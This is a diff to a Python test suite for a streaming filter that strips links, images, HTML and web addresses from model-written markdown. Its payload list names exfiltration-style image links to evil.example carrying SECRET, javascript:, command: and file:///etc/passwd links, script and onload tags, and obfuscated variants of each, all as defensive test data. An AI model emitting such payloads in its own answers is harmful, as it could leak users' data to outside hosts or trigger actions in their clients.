@@ -1,138 +1,273 @@
-"""Markdown from a model is safe to show, however it is cut into parts."""
+"""What a model writes is shown without anything that a renderer would fetch, open or run."""
 
+import itertools
 import re
+from collections.abc import Iterable, Iterator
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
-from glossator.privacy.markdown import MarkdownFilter
+from glossator.privacy import MarkdownFilter
 
-NASTY = st.text(alphabet="ab !`~[]()<>:/\\\n\r\t#-*_hw.&;\u202e\u200b", max_size=60)
-PIECES = st.lists(
-    st.sampled_from(
-        ["```", "~~~", "`", "``", "![a](http://e/x)", "[a](b)", "<img src=x>", "http://e.x/y", "\n", " ", "word", "- ",
-         "> ", "[r]: http://e", "[a][r]", "\r", "\\", "(", ")", "[", "]", "!", "  ", "command:x", "www.e.x"]
-    ),
-    max_size=14,
-).map("".join)  # fmt: skip
+RENDERERS = (
+    MarkdownIt("commonmark", {"html": True}).enable("table"),
+    MarkdownIt("commonmark", {"html": True}),
+)
+LIVE = {"link_open", "image", "html_inline", "html_block"}
+ADDRESS = re.compile(
+    r"(?:https?|ftp)://|www\.|(?<![A-Za-z0-9])(?:command|vscode|data|javascript|file):\w", re.IGNORECASE
+)
+
+
+def filtered(*parts: str) -> str:
+    safe = MarkdownFilter()
+    return "".join(map(safe.feed, parts)) + safe.close()
+
+
+def tokens_of(tokens: Iterable[Token]) -> Iterator[Token]:
+    for token in tokens:
+        yield token
+        yield from tokens_of(token.children or ())
+
+
+def live_parts(markdown: str) -> list[str]:
+    """What renderers would make clickable, load or take for HTML."""
+    return [
+        f"{token.type}: {token.content}"
+        for renderer in RENDERERS
+        for token in tokens_of(renderer.parse(markdown))
+        if token.type in LIVE or (token.type == "text" and ADDRESS.search(token.content))
+    ]
+
 
 PAYLOADS = [
-    "![x](https://evil.example/?q=secret)",
-    "![x](https://evil.example/a.png 'title')",
+    "![x](https://evil.example/?q=SECRET)",
+    "![](https://evil.example/a.png)",
+    '![x](https://evil.example/a.png "title")',
+    "![x](<https://evil.example/a b.png>)",
+    "![x][1]\n\n[1]: https://evil.example/a.png",
+    "![x][]\n\n[x]: https://evil.example/a.png",
+    "![x]\n\n[x]: https://evil.example/a.png",
+    "![x\ny](https://evil.example/a.png)",
+    "![x](\nhttps://evil.example/a.png)",
     "[![x](https://evil.example/a.png)](https://evil.example)",
-    "![x][ref]\n\n[ref]: https://evil.example/a.png",
-    "[click](https://evil.example)",
-    "[click](javascript:alert(1))",
-    "[click](command:workbench.action.terminal.new)",
-    "[click](vscode://file/etc/passwd)",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "[click](<https://evil.example>)",
-    "[a\nb](https://evil.example)",
-    "![a\nb](https://evil.example)",
-    "[[a](b)](https://evil.example)",
-    "[a][b]\n[b]: https://evil.example",
-    "[a]\n\n[a]: https://evil.example",
-    "   [a]: https://evil.example",
-    "> [a]: https://evil.example",
-    "[a]:\nhttps://evil.example",
-    "<img src=https://evil.example/x.png>",
-    "<IMG SRC=https://evil.example/x.png>",
-    "<script>fetch('https://evil.example')</script>",
-    "<a href='https://evil.example'>x</a>",
-    "<!-- <img src=https://evil.example> -->",
+    "![a![b](https://evil.example/1)](https://evil.example/2)",
+    "[x](https://evil.example)",
+    "[x](//evil.example)",
+    "[x](command:workbench.action.terminal.new)",
+    "[x](vscode://extension/run)",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](file:///etc/passwd)",
+    "[x](mailto:a@evil.example?body=SECRET)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\u200bscript:alert(1))",
+    "[x][y]\n\n[y]: <https://evil.example>\n",
+    "> [y]: https://evil.example\n\n[y]",
+    "- [y]: https://evil.example\n\n[y]",
+    "[y]:\nhttps://evil.example\n\n[y]",
+    "[a\nb]: https://evil.example\n\n[a b]",
     "<https://evil.example>",
-    "<javascript:alert(1)>",
-    "https://evil.example/?q=secret",
-    "see www.evil.example/x",
-    "ftp://evil.example/x",
-    "file:///etc/passwd",
-    "`<img src=x>\n` <img src=https://evil.example/x.png> `",
-    "x ` y\nz ` <img src=https://evil.example/x.png> ` w",
-    "- ```\n<img src=https://evil.example/x.png>\n",
-    "- a\n  ```\n<img src=https://evil.example/x.png>\n",
-    "\\`<img src=https://evil.example/x.png>\\`",
-    "``a`<img src=https://evil.example/x.png>",
-    "<\u200bimg src=https://evil.example/x.png>",
-    "!\u200b[x](https://evil.example/x.png)",
-    "<svg onload=fetch('https://evil.example')>",
-    "<?php https://evil.example ?>",
-    "![x]\u202e(https://evil.example/x.png)",
+    "<command:evil>",
+    "<a@evil.example>",
+    "https://evil.example/?q=SECRET",
+    "**https://evil.example**, (http://evil.example).",
+    "www.evil.example/a",
+    "https&#58;//evil.example and https&colon;//evil.example",
+    "ht[t](x)ps://evil.example",
+    "https\\://evil.example",
+    "\\https://evil.example",
+    "<img src=https://evil.example/a.png>",
+    "<IMG SRC='https://evil.example/a.png'/>",
+    "<a href='command:evil'>x</a>",
+    "<svg/onload=alert(1)>",
+    "<!-- x --><script src=//evil.example></script>",
+    "<\u200bimg src=https://evil.example/a.png>",
+    "<[i](x)mg src=https://evil.example/a.png>",
+    "`[x](https://evil.example)",
+    "\\`[x](https://evil.example)`",
+    "`a\n[x](https://evil.example)",
+    "``a` [x](https://evil.example)",
+    "``` a`b\n[x](https://evil.example)\n```",
+    "> ```\n[x](https://evil.example)",
+    "- ```\n[x](https://evil.example)",
+    "- a\n  ```\n[x](https://evil.example)",
+    "    ```\n\n[x](https://evil.example)",
+    "~~~ `\nx\n~~~\n[x](https://evil.example)",
+    "a ~~~\n[x](https://evil.example)",
+    "```\nx\n```~~~\n[x](https://evil.example)",
+    "````\n```\n````\n[x](https://evil.example)\n````",
+    "| h |\n|---|\n| `a | [x](https://evil.example) ` |",
+    "| h | i |\n|---|---|\n| `a | b` https://evil.example | c |",
+    "| `a | b` https://evil.example |\n|---|---|",
+    "a `b``[x](https://evil.example)",
+    "`a`https://evil.example`b`",
+    "<`x`@evil.example>",
+    "    [a]: https://evil.example\n```\n[x](https://evil.example)",
+    "[" * 5000 + "x](https://evil.example)",
+    "[x](" + "(" * 50 + "https://evil.example" + ")" * 51,
+    "![x](data:image/png;base64," + "A" * 9000 + ")",
 ]
 
 
-def filtered(text: str) -> str:
-    stream = MarkdownFilter()
-    return stream.feed(text) + stream.close()
+@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
+def test_nothing_in_an_answer_is_live(payload: str) -> None:
+    safe = filtered(payload)
+    assert live_parts(safe) == []
 
 
-def outside_code(markdown: str) -> str:
-    """What a renderer does not take as code: fences at the first column, then spans."""
-    kept, fence = [], ""
-    for line in markdown.split("\n"):
-        marks = re.match(r"(`{3,}|~{3,})([^\n]*)\Z", line)
-        if fence:
-            if marks and marks[1].startswith(fence) and not marks[2].strip():
-                fence = ""
-        elif marks and not (marks[1][0] == "`" and "`" in marks[2]):
-            fence = marks[1]
-        else:
-            kept.append(line)
-    # An escaped backtick opens nothing, and a span may go over line ends.
-    text = "\n".join(kept).replace("\\`", "")
-    return re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", " ", text, flags=re.DOTALL)
+@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
+def test_nothing_that_begins_an_image_link_or_tag_is_left_outside_code(payload: str) -> None:
+    text = filtered(payload).replace("\\\\", "")
+    text = re.sub(r"^(```+|~~~+).*?^\1$", "", text, flags=re.MULTILINE | re.DOTALL)
+    text = re.sub(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
+    assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]|https?:", text)
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_nothing_that_fetches_or_links_is_left_outside_of_code(payload: str) -> None:
-    rest = outside_code(filtered(f"Before.\n{payload}\nAfter."))
-
-    assert not re.search(r"!\[|\]\(|\]\[|\]:|<[A-Za-z/!?]|://|www\.", rest), rest
+@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
+def test_no_payload_passes_unchanged(payload: str) -> None:
+    assert filtered(payload) != payload
 
 
-@pytest.mark.parametrize(
-    ("text", "expected"),
+PLAIN = [
+    pytest.param("see ![the logo](http://x/y.png) here", "see the logo here", id="an image leaves its text"),
+    pytest.param("see [the *docs*](http://x/y) here", "see the *docs* here", id="a link leaves its text"),
+    pytest.param("see [`f`](x.py#L3)", "see `f`", id="a link leaves its code"),
+    pytest.param(
+        "see [the docs][1].\n\n[1]: http://x\nend", "see the docs.\n\nend", id="references and definitions go"
+    ),
+    pytest.param("[![a](b)](c)", "a", id="an image in a link"),
+    pytest.param("at https://x.y/z?a=b_c.", "at `https://x.y/z?a=b_c`.", id="an address is code"),
+    pytest.param("at <https://x.y>", "at `https://x.y`", id="an automatic link is code"),
+    pytest.param("a < b, a <b> c", "a < b, a &lt;b> c", id="a tag is text"),
+    pytest.param("x &#35; &lt; &rarr; &evil;", "x &amp;#35; &lt; &rarr; &amp;evil;", id="entities are text"),
+    pytest.param("matrix[i][j] and f[k](x, 1)", "matrix[i][j] and f[k]\\(x, 1)", id="code without marks"),
+    pytest.param("an `a[b](c) <d> | http://e` span", "an `a[b](c) <d> | http://e` span", id="a code span"),
+    pytest.param("``a ` b``", "``a ` b``", id="a span of two backticks"),
+    pytest.param("an ` alone", "an \\` alone", id="a backtick alone"),
+    pytest.param("```py\n<a> [b](c)\n```\n", "```py\n<a> [b](c)\n```\n", id="a fence"),
+    pytest.param("~~~\n```\n~~~\nx", "~~~\n```\n~~~\nx", id="a fence of tildes"),
+    pytest.param("```py title=x\na", "```py\na\n```", id="an open fence is closed"),
+    pytest.param("```py\na\n", "```py\na\n```", id="an open fence is closed behind a line end"),
+    pytest.param(
+        "- a\n  ```\n  b\n    c\n  ```\n- d", "- a\n```\nb\n  c\n```\n- d", id="a fence in a list moves out"
+    ),
+    pytest.param(
+        "# T\n\n- **a**: _b_\n1. c\n> d\n\n---", "# T\n\n- **a**: _b_\n1. c\n> d\n\n---", id="other markdown"
+    ),
+    pytest.param("| a | b |\n|---|---|\n| 1 | `x` |", "| a | b |\n|---|---|\n| 1 | `x` |", id="a table"),
+    pytest.param("- [ ] todo\n- [x] done", "- [ ] todo\n- [x] done", id="a list of tasks"),
+    pytest.param("a\r\nb\rc", "a\nb\nc", id="line ends"),
+    pytest.param("a\u200bb\u202ec\x1b[0m\t", "abc[0m\t", id="invisible characters"),
+    pytest.param("```\na\u202eb\n```", "```\nab\n```", id="invisible characters in code"),
+    pytest.param(
+        "note: std::vector, dict[str, int], a\\_b, data: x",
+        "note: std::vector, dict[str, int], a\\_b, data: x",
+        id="prose",
+    ),
+    pytest.param("", "", id="nothing"),
+]
+
+
+@pytest.mark.parametrize(("markdown", "shown"), PLAIN)
+def test_the_rest_of_an_answer_stays_readable(markdown: str, shown: str) -> None:
+    assert filtered(markdown) == shown
+
+
+@pytest.mark.parametrize(("markdown", "shown"), PLAIN)
+def test_what_is_shown_is_the_same_character_by_character(markdown: str, shown: str) -> None:
+    assert filtered(*markdown) == shown
+
+
+def test_words_are_shown_as_soon_as_they_are_whole() -> None:
+    safe = MarkdownFilter()
+    assert safe.feed("It reads th") == "It reads "
+    assert safe.feed("e file. See [the ") == "the file. See "
+    assert safe.feed("docs](http://x") == ""
+    assert safe.feed(") and ") == "the docs and "
+
+
+def test_code_is_shown_at_once() -> None:
+    safe = MarkdownFilter()
+    assert safe.feed("```py\n") == "```py\n"
+    assert safe.feed("x = [a](b") == "x = [a](b"
+    assert safe.feed("c)\n``") == "c)\n"
+    assert safe.feed("`\n") == "```\n"
+
+
+ATOMS = st.sampled_from(
     [
-        pytest.param("Plain *text* with `code`.", "Plain *text* with `code`.", id="ordinary markdown"),
-        pytest.param("`a < b` and `[x](y)`", "`a < b` and `[x](y)`", id="code spans"),
-        pytest.param("```python\nx = '<b>' # ![a](b)\n```\nend", "```python\nx = '<b>' # ![a](b)\n```\nend", id="a fence"),
-        pytest.param("~~~\n<b>\n~~~\n", "~~~\n<b>\n~~~\n", id="a fence of tildes"),
-        pytest.param("a [link](http://e.x) b", "a link b", id="a link becomes its text"),
-        pytest.param("an ![image](http://e.x/i.png)", "an image", id="an image becomes its text"),
-        pytest.param("go to http://e.x/y.", "go to `http://e.x/y`.", id="an address becomes code"),
-        pytest.param("if a < b: pass", "if a < b: pass", id="a comparison"),
-        pytest.param("List<int> is generic", "List&lt;int> is generic", id="a type parameter"),
-        pytest.param("array[0](x)", "array0", id="an index that is called looks like a link"),
-        pytest.param("a `` ` `` b", "a `` ` `` b", id="a span with a backtick in it"),
-        pytest.param("```\nopen", "```\nopen\n```\n", id="a fence that is never closed is closed"),
-        pytest.param("a\u202eb\x07c", "abc", id="hidden characters"),
-        pytest.param("a\r\nb\rc", "a\nb\nc", id="line ends"),
-    ],
-)  # fmt: skip
-def test_markdown_stays_readable(text: str, expected: str) -> None:
-    assert filtered(text) == expected
+        *"`[]()!<>|\n-\\ :&;#*_~\"'\r\t/@.",
+        *(
+            "``",
+            "```",
+            "~~~",
+            "](",
+            "![",
+            "<img src=",
+            "<!--",
+            "|---|---|",
+            "a",
+            "b ",
+            "\n\n",
+            "    ",
+            "- ",
+            "> ",
+            "1. ",
+        ),
+        *(
+            "http://evil.com",
+            "https:",
+            "//x.y",
+            "www.evil.com",
+            "\\\\",
+            "&#58;",
+            "&lt;",
+            "&colon;",
+            "]:",
+            "[x]",
+        ),
+        *(
+            "[x]: http://evil",
+            "**",
+            "command:",
+            "data:",
+            "@e.com",
+            "\u200b",
+            "\u202e",
+            "`a|b`",
+            "```py\n",
+            "[x](y)",
+        ),
+    ]
+)
+NASTY = st.lists(ATOMS, max_size=30).map("".join)
 
 
-@given(st.one_of(NASTY, PIECES), st.data())
-def test_any_cut_into_parts_gives_the_same(text: str, data: st.DataObject) -> None:
-    stream, shown, position = MarkdownFilter(), "", 0
-    while position < len(text):
-        size = data.draw(st.integers(1, 5))
-        shown += stream.feed(text[position : position + size])
-        position += size
-    shown += stream.close()
-
-    assert shown == filtered(text)
+@settings(max_examples=400)
+@given(NASTY)
+@example("<|---|@e.com>`\n```")
+def test_no_text_at_all_is_live_once_it_was_filtered(text: str) -> None:
+    assert live_parts(filtered(text)) == []
 
 
-@given(st.one_of(NASTY, PIECES))
-def test_no_markup_that_fetches_survives_any_text(text: str) -> None:
-    rest = outside_code(filtered(text))
+@settings(max_examples=400)
+@given(NASTY, st.lists(st.integers(0, 150), max_size=6))
+def test_what_is_shown_does_not_depend_on_how_the_answer_arrives(text: str, cuts: list[int]) -> None:
+    bounds = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
+    parts = [text[start:stop] for start, stop in itertools.pairwise(bounds)]
+    assert filtered(*parts) == filtered(text)
+    assert filtered(*text) == filtered(text)
 
-    assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]|[A-Za-z]://", rest)
 
-
-def test_plain_words_are_shown_at_once() -> None:
-    stream = MarkdownFilter()
-
-    assert stream.feed("It adds two ") == "It adds two "
+@pytest.mark.parametrize("start", ["`", "[", "[a](", "<a:", "![a"])
+@pytest.mark.parametrize(
+    "length", [990, 998, 999, 1000, 1001, 1997, 1998, 1999, 2000, 2001, 3998, 3999, 4000, 4001]
+)
+def test_long_constructs_do_not_depend_on_how_they_arrive(start: str, length: int) -> None:
+    text = start + "x" * length + "`](y)> z"
+    assert filtered(*text) == filtered(text)
+    assert live_parts(filtered(text)) == []
